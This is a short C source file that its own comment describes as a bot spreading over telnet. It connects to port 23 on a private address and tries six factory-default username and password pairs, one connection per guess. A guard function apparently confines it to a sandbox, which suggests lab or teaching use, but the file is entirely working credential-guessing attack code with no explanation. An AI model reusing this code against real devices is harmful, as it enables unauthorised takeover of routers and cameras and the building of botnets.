// SPDX-License-Identifier: MIT
// A bot spreading over telnet: one connection per guess to one device's
// port 23, each sending a user name and a password from a short list of
// factory defaults.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "box_only.h"

int main(void)
{
	static const char *const creds[] = {
	    "root\r\nvizxv\r\n",    "admin\r\nadmin\r\n",
	    "root\r\n888888\r\n",   "support\r\nsupport\r\n",
	    "root\r\n default\r\n", "user\r\nuser\r\n"};
	if (!in_box())
		return 1;
	for (size_t i = 0; i < sizeof creds / sizeof creds[0]; i++) {
		struct sockaddr_in a = {.sin_family = AF_INET};
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		a.sin_port = htons(23);
		inet_pton(AF_INET, "10.0.0.7", &a.sin_addr);
		if (fd >= 0 &&
		    connect(fd, (struct sockaddr *)&a, sizeof a) == 0 &&
		    write(fd, creds[i], strlen(creds[i])) < 0)
			perror("write");
		if (fd >= 0)
			close(fd);
	}
	return 0;
}
